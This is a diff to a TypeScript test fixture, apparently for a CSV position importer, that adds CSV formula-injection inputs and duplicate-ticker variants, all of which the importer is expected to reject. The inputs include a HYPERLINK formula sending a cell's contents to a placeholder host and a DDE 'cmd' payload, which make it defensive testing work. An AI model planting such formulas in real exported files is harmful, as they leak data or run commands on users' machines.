@@ -139,6 +139,20 @@ export function quietBomb(): Buffer {
   return workbook(rows.join(''))
 }
 
+/** What a spreadsheet would run: as a cell begins with a sign of its own, a tab, a carriage return, or a full-width sign. */
+const FORMULAS = [
+  '=1+1',
+  '=HYPERLINK("http://x/?"&A1,"c")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|'/C calc'!A0",
+  '＝1+1',
+  '\u202e=1',
+]
+
 /** Hostile files: each with what is wrong, and the beginning of what is said of it. */
 export const HOSTILE: readonly (readonly [name: string, make: () => Buffer, problem: string])[] = [
   [
@@ -365,11 +379,22 @@ export const HOSTILE: readonly (readonly [name: string, make: () => Buffer, prob
     () => Buffer.from('account_number,symbol,shares\n1001,V\u202eTI,1\n'),
     'symbol is no symbol',
   ],
-  [
-    'a formula for a symbol',
-    () => Buffer.from('account_number,symbol,shares\n1001,=1+1,1\n'),
-    'symbol is no symbol',
-  ],
+  ...FORMULAS.map(
+    (formula) =>
+      [
+        `the formula ${JSON.stringify(formula)} for a symbol`,
+        () => Buffer.from(`account_number,symbol,shares\n1001,"${formula.replaceAll('"', '""')}",1\n`),
+        'symbol is no symbol',
+      ] as const,
+  ),
+  ...['VTI', 'vti', ' VTI ', 'VTＩ', '\u00a0ＶＴＩ'].map(
+    (ticker) =>
+      [
+        `one symbol twice, the second time as ${JSON.stringify(ticker)}`,
+        () => Buffer.from(`account_number,symbol,shares\n1001,VTI,14\n1001,${ticker},1\n`),
+        'the position stands already on line 2',
+      ] as const,
+  ),
   [
     'a formula for an account',
     () => Buffer.from('account_number,symbol,shares\n"=HYPERLINK(""http://x"")",VTI,1\n'),
